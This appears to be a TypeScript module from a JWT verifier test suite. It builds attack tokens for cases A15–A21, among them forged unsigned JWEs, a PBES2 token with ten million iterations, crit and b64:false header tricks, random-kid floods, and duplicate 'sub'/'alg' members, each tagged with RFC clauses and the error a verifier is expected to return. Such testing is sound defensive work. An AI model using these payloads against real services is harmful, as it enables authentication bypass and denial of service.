import { CompactEncrypt, EncryptJWT, base64url, generateKeyPair } from 'jose';
import { defineAttack, defineScenario } from '../attack';
import { compactToken, encodeSegment, splitCompact } from '../compact-token';
import { signRaw } from '../raw-signature';
import { mintValidToken, randomJti, signWith, validParts } from '../valid-token';
import { FORGED_CLAIMS } from './signature-attacks';

export const unsignedJwe = defineAttack(
  {
    id: 'A15',
    name: 'Unsigned or nested JWE',
    note: "Anyone holding the service's public encryption key can encrypt an unsigned claims set; decrypting it proves nothing about its author.",
    clauses: ['RFC 8725 §2.3', 'RFC 8725 §3.3', 'RFC 8725 §3.4', 'RFC 7519 §7.2'],
    checklist: [16],
  },
  async ({ target }) => {
    // Without a published encryption key, the attack runs against a key pair standing in for the service's.
    const recipient = target.encryptionKey ?? {
      alg: 'ECDH-ES' as const,
      publicKey: (await generateKeyPair('ECDH-ES')).publicKey,
    };
    const { claims } = validParts(target, { claims: FORGED_CLAIMS });
    const token = await new EncryptJWT(claims)
      .setProtectedHeader({ alg: recipient.alg, enc: 'A256GCM', typ: target.typ })
      .encrypt(recipient.publicKey);
    // A Nested JWT (RFC 7519 §5.2 cty "JWT") whose inner JWS carries forged claims under the issuer's old signature.
    const [innerHeader, , innerSignature] = splitCompact(await mintValidToken(target));
    const inner = `${innerHeader}.${encodeSegment(claims)}.${innerSignature}`;
    const nested = await new CompactEncrypt(new TextEncoder().encode(inner))
      .setProtectedHeader({ alg: recipient.alg, enc: 'A256GCM', cty: 'JWT' })
      .encrypt(recipient.publicKey);
    // PBES2 with p2c = 10⁷: a verifier that tries to decrypt runs ten million PBKDF2 rounds before any
    // integrity check (RFC 8725 §3.4; jose caps p2c with maxPBES2Count). The other segments are random.
    const random = (n: number) => base64url.encode(crypto.getRandomValues(new Uint8Array(n)));
    const pbes2Header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: random(16), p2c: 10_000_000 };
    const pbes2 = [encodeSegment(pbes2Header), random(24), random(12), random(64), random(16)].join('.');
    return [
      {
        variant: 'unsigned-jwe',
        token,
        note: `An ${recipient.alg}/A256GCM JWE of forged claims: encrypted to the service, signed by nobody.`,
        strict: 'ERR_JWS_INVALID',
      },
      {
        variant: 'nested-bad-inner-signature',
        token: nested,
        note: 'A Nested JWT whose inner JWS has forged claims and a signature made for other claims.',
        strict: 'ERR_JWS_INVALID',
      },
      {
        variant: 'pbes2-huge-count',
        token: pbes2,
        note: 'A PBES2 JWE with p2c = 10,000,000: a decryption attempt burns CPU before any check.',
        strict: 'ERR_JWS_INVALID',
      },
    ];
  },
);

export const criticalHeader = defineAttack(
  {
    id: 'A16',
    name: 'Unknown crit extension',
    note: 'The issuer marked an extension critical; a verifier that ignores crit accepts a token it must reject.',
    clauses: ['RFC 7515 §4.1.11', 'RFC 7519 §7.2'],
    checklist: [17],
  },
  async ({ target }) => {
    const extension = 'https://issuer.example.test/ext/binding';
    const unknown = validParts(target, {
      header: { crit: [extension], [extension]: 'device-123' },
    });
    const malformed = validParts(target, { header: { crit: 'exp' } });
    return [
      {
        variant: 'unknown-extension',
        token: await signWith(unknown.key, unknown.header, unknown.claims),
        note: `Signed by the issuer with crit ["${extension}"], an extension the verifier does not implement.`,
        strict: 'ERR_JOSE_NOT_SUPPORTED',
      },
      {
        variant: 'crit-not-array',
        token: await signWith(malformed.key, malformed.header, malformed.claims),
        note: 'Signed by the issuer with crit "exp": not an array of extension names.',
        strict: 'ERR_JWS_INVALID',
      },
    ];
  },
);

export const unencodedPayload = defineAttack(
  {
    id: 'A17',
    name: 'Unencoded payload (b64:false)',
    note: 'A JWS whose payload is not base64url-decoded (RFC 7797): a parser that ignores b64 reads claims the signature never covered as claims.',
    clauses: ['RFC 7797 §6', 'RFC 7515 §4.1.11'],
    checklist: [17],
  },
  async ({ target }) => {
    const { header, claims, key } = validParts(target, {
      header: { b64: false, crit: ['b64'] },
    });
    // The payload text is itself base64url, so it contains no '.' and fits the compact form: a parser that
    // ignores b64 decodes it into claims, while RFC 7797 says the signature covers the text as-is.
    const payloadText = encodeSegment({ ...claims, ...FORGED_CLAIMS });
    const headerSegment = encodeSegment(header);
    const signature = await signRaw(key.alg, key.privateKey, `${headerSegment}.${payloadText}`);
    return [
      {
        variant: 'b64-false',
        token: `${headerSegment}.${payloadText}.${base64url.encode(signature)}`,
        note: 'Header b64:false with crit ["b64"], signed by the issuer over the raw payload text.',
        strict: 'ERR_JWT_INVALID',
      },
    ];
  },
);

export const refreshTokenReplay = defineScenario(
  {
    id: 'A19',
    name: 'Refresh token replay',
    note: 'A stolen refresh token is used after the legitimate client has rotated it; the whole grant must be revoked.',
    clauses: ['RFC 9700 §4.14.2', 'OWASP ASVS 5.0 10.4.5'],
    checklist: [20, 21],
  },
  "the token server's refresh_token grant: present a rotated refresh token again and expect invalid_grant and the family revoked",
);

export const unknownKidFlood = defineAttack(
  {
    id: 'A20',
    name: 'Unknown-kid flood',
    note: 'Tokens with random kids force a naive JWKS client to refetch the key set once per token.',
    clauses: ['RFC 8725 §3.10', 'RFC 7517 §5'],
    checklist: [33, 40],
  },
  async ({ target, attacker }) => {
    const alg = target.key.alg.startsWith('HS') ? 'ES256' : target.key.alg;
    const key = await attacker.key(alg as 'ES256');
    return Promise.all(
      Array.from({ length: 20 }, async (_, index) => {
        const { header, claims } = validParts(target, {
          header: { alg, kid: `flood-${randomJti()}` },
        });
        return {
          variant: `random-kid-${index + 1}`,
          token: await compactToken(header, claims, {
            kind: 'sign',
            alg,
            key: key.privateKey,
          }),
          note: `kid ${String(header['kid'])}, a key id no JWKS has ever published.`,
          strict:
            alg === target.key.alg
              ? ('ERR_JWKS_NO_MATCHING_KEY' as const)
              : ('ERR_JOSE_ALG_NOT_ALLOWED' as const),
        };
      }),
    );
  },
);

export const duplicateMembers = defineAttack(
  {
    id: 'A21',
    name: 'Duplicate JSON members',
    note: 'The same member appears twice; parsers that keep the first and parsers that keep the last see different identities or algorithms.',
    clauses: ['RFC 7519 §4', 'RFC 8725 §2.6', 'RFC 7515 §5.2'],
    checklist: [39],
  },
  async ({ target }) => {
    const { header, claims, key } = validParts(target);
    const payload = JSON.stringify({ ...claims, sub: undefined }).replace(
      /^\{/,
      `{"sub":"alice","sub":"admin",`,
    );
    const headerText = JSON.stringify(header).replace(/^\{/, '{"alg":"none",');
    return [
      {
        variant: 'duplicate-sub',
        token: await signWith(key, header, payload),
        note: 'Signed by the issuer with "sub":"alice" then "sub":"admin": JSON.parse keeps admin.',
        strict: 'accepted',
      },
      {
        variant: 'duplicate-alg',
        token: await signWith(key, headerText, claims),
        note: `Header "alg":"none" then "alg":"${key.alg}", signed by the issuer: a first-wins parser sees none.`,
        strict: 'accepted',
      },
    ];
  },
);
